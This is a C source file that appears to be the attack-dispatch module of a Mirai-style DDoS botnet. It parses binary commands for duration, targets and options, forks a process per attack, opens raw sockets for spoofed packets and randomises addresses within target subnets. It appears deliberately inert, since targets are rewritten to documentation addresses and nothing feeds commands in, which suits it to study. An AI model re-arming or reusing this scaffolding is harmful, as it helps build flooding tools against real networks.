/* Which attacks there are, how one is chosen, how its parameters are read. */
#include "attack.h"

#include "inert.h"
#include "table.h"
#include "util.h"

#if HAS_ATTACKS

#if DISPATCH == DISPATCH_REGISTRY

uint8_t methods_length;
struct attack_method **methods;

LOCAL void add_attack(uint8_t vector, attack_handler handler)
{
    struct attack_method *method = calloc(1, sizeof(struct attack_method));
    method->vector = vector;
    method->handler = handler;
    methods = realloc(methods, (methods_length + 1u) * sizeof(struct attack_method *));
    methods[methods_length++] = method;
}

int attack_init(void)
{
#define METHOD(VECTOR, COMMAND, HANDLER) add_attack(VECTOR, HANDLER);
    ATTACKS(METHOD)
    return 1;
}

LOCAL void attack_start(uint8_t vector, ATTACK_ARGUMENTS)
{
    int i;
    if (fork() != 0)
        return;
    for (i = 0; i < methods_length; i++) {
        if (methods[i]->vector == vector) {
            methods[i]->handler(target_count, targets, option_count, options);
            break;
        }
    }
    exit(0);
}

#elif DISPATCH == DISPATCH_SWITCH

int attack_init(void) { return 1; }

LOCAL void attack_start(uint8_t vector, ATTACK_ARGUMENTS)
{
    if (fork() != 0)
        return;
    switch (vector) {
#define METHOD(VECTOR, COMMAND, HANDLER)                             \
    case VECTOR:                                                     \
        HANDLER(target_count, targets, option_count, options);       \
        break;
        ATTACKS(METHOD)
    default:
        break;
    }
    exit(0);
}

#else

int attack_init(void) { return 1; }

LOCAL void attack_start(const char *command, ATTACK_ARGUMENTS)
{
    if (fork() != 0)
        return;
#define METHOD(VECTOR, COMMAND, HANDLER)                             \
    if (util_same(command, COMMAND))                                 \
        HANDLER(target_count, targets, option_count, options);
    ATTACKS(METHOD)
    exit(0);
}

#endif

static int take(char **at, int *left, void *out, int count)
{
    if (*left < count)
        return 0;
    util_memcpy(out, *at, count);
    *at += count;
    *left -= count;
    return 1;
}

static struct attack_target *parse_targets(char **at, int *left, uint8_t *count)
{
    struct attack_target *targets;
    int i;
    if (!take(at, left, count, 1) || *count == 0)
        return NULL;
    targets = calloc(*count, sizeof(struct attack_target));
    for (i = 0; i < *count; i++) {
        if (!take(at, left, &targets[i].addr, 4) || !take(at, left, &targets[i].netmask, 1))
            break;
        targets[i].addr = documentation_address(targets[i].addr);
        targets[i].sock_addr.sin_family = AF_INET;
        targets[i].sock_addr.sin_addr.s_addr = targets[i].addr;
    }
    *count = (uint8_t)i;
    return targets;
}

static struct attack_option *parse_options(char **at, int *left, uint8_t *count)
{
    struct attack_option *options;
    int i;
    if (!take(at, left, count, 1) || *count == 0)
        return NULL;
    options = calloc(*count, sizeof(struct attack_option));
    for (i = 0; i < *count; i++) {
        uint8_t length;
        if (!take(at, left, &options[i].key, 1) || !take(at, left, &length, 1) || *left < length)
            break;
        options[i].val = calloc(length + 1u, 1);
        take(at, left, options[i].val, length);
    }
    *count = (uint8_t)i;
    return options;
}

/*
 * The command as the family sends it: duration, vector (or a length and a name), targets, options.
 * Nothing fills the buffer that main hands over.
 */
void attack_parse(char *command, int length)
{
    uint32_t duration;
    uint8_t vector, target_count, option_count;
    struct attack_target *targets;
    struct attack_option *options;
    if (!take(&command, &length, &duration, 4) || ntohl(duration) == 0)
        return;
    if (!take(&command, &length, &vector, 1))
        return;
    {
#if DISPATCH == DISPATCH_TEXT
        char name[64];
        util_zero(name, sizeof(name));
        if (vector >= sizeof(name) || !take(&command, &length, name, vector))
            return;
#endif
        targets = parse_targets(&command, &length, &target_count);
        if (targets == NULL)
            return;
        options = parse_options(&command, &length, &option_count);
#if DISPATCH == DISPATCH_TEXT
        attack_start(name, target_count, targets, option_count, options);
#else
        attack_start(vector, target_count, targets, option_count, options);
#endif
    }
    free(targets);
    free(options);
}

char *attack_get_opt_str(uint8_t count, struct attack_option *options, uint8_t key, char *fallback)
{
    int i;
    for (i = 0; i < count; i++)
        if (options[i].key == key)
            return options[i].val;
    return fallback;
}

int attack_get_opt_int(uint8_t count, struct attack_option *options, uint8_t key, int fallback)
{
    char *text = attack_get_opt_str(count, options, key, NULL);
    return text == NULL ? fallback : util_atoi(text, 10);
}

uint32_t attack_get_opt_ip(uint8_t count, struct attack_option *options, uint8_t key,
                           uint32_t fallback)
{
    char *text = attack_get_opt_str(count, options, key, NULL);
    return text == NULL ? fallback : inet_addr(text);
}

int attack_raw_socket(int protocol)
{
    int header_included = 1;
    int fd = socket(AF_INET, SOCK_RAW, protocol);
    if (fd == -1)
        return -1;
    if (setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &header_included, sizeof(header_included)) == -1) {
        close(fd);
        return -1;
    }
    return fd;
}

ipv4_t attack_draw_address(const struct attack_target *target)
{
    ipv4_t address = target->addr;
    if (target->netmask < 32)
        address = htonl(ntohl(address) + (rand_next() >> target->netmask));
    return documentation_address(address);
}

#endif
